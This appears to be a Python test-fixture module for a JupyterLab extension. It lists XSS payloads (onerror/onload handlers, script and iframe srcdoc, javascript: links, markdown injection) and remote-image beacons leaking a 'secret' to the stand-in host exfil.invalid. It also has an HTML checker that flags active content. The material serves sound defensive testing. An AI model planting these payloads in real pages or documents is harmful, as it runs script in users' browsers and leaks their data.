"""XSS payloads for the untrusted-content tests, and a checker for inert HTML.

Every payload, if it ever ran, would push its name onto ``window.__agcPwned`` in the page
(:data:`PWNED_FLAG`); a test renders them through a surface and asserts the flag never
appears and each payload's visible marker (:func:`marker`) is still there as text.  The
same list serves the Python tests, the panel's vitest tests (through
``labextension/test/fixtures/xss.json``, kept equal by a unit test) and the browser tests.

:func:`inert_html_problems` parses HTML the way a browser would see its elements and
lists what could run script, load something by itself or run a JupyterLab command.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

__all__ = [
    "EXFIL_HOST",
    "PAYLOADS",
    "PWNED_FLAG",
    "inert_html_problems",
    "marker",
    "payload_text",
    "payloads_json",
]

PWNED_FLAG = "__agcPwned"
#: a host no test serves: a request to it is data carried out through the user's browser
EXFIL_HOST = "exfil.invalid"


def _js(name: str) -> str:
    return f"(window.{PWNED_FLAG}=window.{PWNED_FLAG}||[]).push('{name}')"


#: name → the payload; each runs ``_js(name)`` if the surface lets it
PAYLOADS: dict[str, str] = {
    "img-onerror": f'<img src="x" onerror="{_js("img-onerror")}">',
    "script": f"<script>{_js('script')}</script>",
    "svg-onload": f'<svg onload="{_js("svg-onload")}"><circle r="4"/></svg>',
    "iframe-srcdoc": (
        "<iframe srcdoc=\"<script>parent.window.__agcPwned=['iframe-srcdoc']</script>\"></iframe>"
    ),
    "details-ontoggle": (
        f'<details open ontoggle="{_js("details-ontoggle")}"><summary>s</summary></details>'
    ),
    "input-onfocus": f'<input autofocus onfocus="{_js("input-onfocus")}">',
    "a-javascript": f'<a href="javascript:{_js("a-javascript")}">click me</a>',
    "md-javascript-link": f"[click me](javascript:{_js('md-javascript-link')})",
    "md-image-onerror": f'![x" onerror="{_js("md-image-onerror")}](x)',
    "object-data": f'<object data="javascript:{_js("object-data")}"></object>',
    "math-href": f'<math><mtext><a href="javascript:{_js("math-href")}">m</a></mtext></math>',
    "commandlinker": '<button data-commandlinker-command="help:about">about</button>',
    "remote-image": f"![tracker](https://{EXFIL_HOST}/leak.png?secret=1)",
    "html-remote-image": f'<img src="https://{EXFIL_HOST}/leak2.png">',
}


def marker(name: str) -> str:
    """The visible text next to a payload: a test checks the user still sees it."""
    return f"XSS-{name}-MARK"


def payload_text(names: list[str] | None = None) -> str:
    """Each payload (all by default) on its own line, after its marker."""
    chosen = names if names is not None else list(PAYLOADS)
    return "\n\n".join(f"{marker(name)} {PAYLOADS[name]}" for name in chosen)


def payloads_json() -> str:
    """What ``labextension/test/fixtures/xss.json`` holds."""
    data = {"flag": PWNED_FLAG, "exfil_host": EXFIL_HOST, "payloads": PAYLOADS}
    return json.dumps(data, indent=2, sort_keys=True) + "\n"


_ACTIVE_TAGS = {
    "script", "iframe", "frame", "object", "embed", "svg", "math", "style", "link",
    "meta", "base", "form", "input", "button", "textarea", "select", "video", "audio",
    "source", "img", "picture", "template",
}  # fmt: skip
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset"}
_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]*$")


class _Inspector(HTMLParser):
    def __init__(self, allow_data_images: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_data_images = allow_data_images
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag == "img" and self.allow_data_images:
            if not _DATA_IMAGE.match(values.get("src", "")):
                self.problems.append(f"<img> not from a data: image URI: {values.get('src')!r}")
        elif tag in _ACTIVE_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...> event handler")
            if name.startswith("data-commandlinker"):
                self.problems.append(f"<{tag} {name}> runs a JupyterLab command")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
            if name in _URL_ATTRIBUTES and not (tag == "img" and self.allow_data_images):
                url = re.sub(r"[\x00-\x20]", "", value).lower()
                if not url.startswith(("http://", "https://", "#")):
                    self.problems.append(f"<{tag} {name}={value!r}>: not an http(s) URL")
            if name == "style" and re.search(r"url\s*\(|expression\s*\(", value, re.I):
                self.problems.append(f"<{tag} style> loads or computes: {value!r}")
        if tag == "a" and "href" in values:
            rel = set(values.get("rel", "").split())
            if not {"noopener", "noreferrer"} <= rel:
                self.problems.append(f"<a href> without rel=noopener noreferrer: {values!r}")


def inert_html_problems(fragment: str, *, allow_data_images: bool = False) -> list[str]:
    """What in ``fragment`` could run script, load by itself or act (empty: inert).

    With ``allow_data_images``, ``<img>`` from a ``data:`` image URI is allowed (how
    workspace images are shown)."""
    inspector = _Inspector(allow_data_images)
    inspector.feed(fragment)
    inspector.close()
    return inspector.problems
